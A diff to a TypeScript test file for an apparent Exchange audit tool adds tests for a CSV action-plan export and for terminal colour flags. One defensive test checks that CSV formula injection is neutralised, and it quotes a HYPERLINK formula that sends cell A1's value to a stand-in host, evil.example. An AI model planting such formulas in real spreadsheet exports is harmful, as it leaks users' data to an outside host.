@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import Ajv04Module from 'ajv-draft-04';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { ACTION_PLAN_HEADER, actionPlanRows, formatActionPlan } from '../../src/formatters/action-plan.js';
 import { formatHtml, ROWS_PER_RULE } from '../../src/formatters/html.js';
 import { formatJson } from '../../src/formatters/json.js';
 import { formatJunit } from '../../src/formatters/junit.js';
@@ -36,6 +37,7 @@ describe('golden outputs of the examples (fixed clock)', () => {
     ['examples.report.md', formatMarkdown],
     ['examples.remediation.ps1', (r) => formatRemediation(r)],
     ['examples.results.txt', (r) => formatText(r)],
+    ['examples.action-plan.csv', (r) => [...formatActionPlan(r)].join('')],
   ];
   for (const [file, render] of formats) {
     it(file, async () => {
@@ -246,15 +248,56 @@ describe('HTML', () => {
 });
 
 describe('terminal colour', () => {
-  it('colours only a TTY, and never with NO_COLOR set', async () => {
+  it('colours a TTY unless NO_COLOR; FORCE_COLOR colours a pipe; --color/--no-color decide over both', async () => {
     const { useColour } = await import('../../src/cli/outputs.js');
+    const { setOutputPrefs } = await import('../../src/cli/output-prefs.js');
     const tty = { isTTY: true } as NodeJS.WriteStream;
     const pipe = { isTTY: false } as NodeJS.WriteStream;
     expect(useColour(tty, {})).toBe(true);
     expect(useColour(pipe, {})).toBe(false);
     expect(useColour(tty, { NO_COLOR: '1' })).toBe(false);
+    expect(useColour(pipe, { FORCE_COLOR: '1' })).toBe(true);
+    expect(useColour(tty, { FORCE_COLOR: '0' })).toBe(false);
+    setOutputPrefs({ quiet: false, colour: false });
+    expect(useColour(tty, { FORCE_COLOR: '1' })).toBe(false);
+    setOutputPrefs({ quiet: false, colour: true });
+    expect(useColour(pipe, { NO_COLOR: '1' })).toBe(true);
+    setOutputPrefs({ quiet: false });
     const { COLOUR } = await import('../../src/formatters/text.js');
     expect(formatText(examples, COLOUR)).toContain('\u001b[1;31mCRITICAL');
     expect(formatText(examples)).not.toContain('\u001b[');
+  });
+});
+
+describe('action plan (-f csv)', () => {
+  it('has one row per open failing or erroring finding, worst first, with empty tracking columns', () => {
+    const text = [...formatActionPlan(examples)].join('');
+    expect(text.startsWith('\uFEFF')).toBe(true);
+    const lines = text.slice(1).split('\r\n').filter(Boolean);
+    expect(lines[0]).toBe(ACTION_PLAN_HEADER.join(','));
+    const open = examples.findings.filter((f) => (f.verdict === 'fail' || f.verdict === 'error') && !f.waiver && !f.accepted);
+    expect(actionPlanRows(examples)).toHaveLength(open.length);
+    expect(open.length).toBeGreaterThan(10);
+    // Records end in CRLF; a line break inside a cell (a fix of several commands) is quoted, as RFC 4180 allows.
+    let quoted = false;
+    let records = 0;
+    for (let i = 0; i < text.length; i++) {
+      if (text[i] === '"') quoted = !quoted;
+      else if (!quoted && text[i] === '\n') {
+        expect(text[i - 1]).toBe('\r');
+        records++;
+      }
+    }
+    expect(records).toBe(open.length + 1);
+    expect(lines[1]).toMatch(/^EXPOP-001,POP3 login type is not SecureLogin,critical,fail,EX2016B,EX2016B,LoginType,SecureLogin,PlainTextLogin,/);
+    expect(lines[1]?.endsWith(',,,')).toBe(true);
+    expect(actionPlanRows(examples).map((f) => f.severity)).toEqual([...actionPlanRows(examples).map((f) => f.severity)].sort((a, b) => ['critical', 'high', 'medium', 'low', 'info'].indexOf(a) - ['critical', 'high', 'medium', 'low', 'info'].indexOf(b)));
+  });
+
+  it('neutralises formulas from exported text and quotes per RFC 4180', () => {
+    const text = [...formatActionPlan(hostile)].join('');
+    for (const cell of text.split(/,|\r\n/)) expect(cell).not.toMatch(/^"?[=+@\t]/);
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")`);
+    expect(text).toContain(`'@SUM(1+1)`);
   });
 });
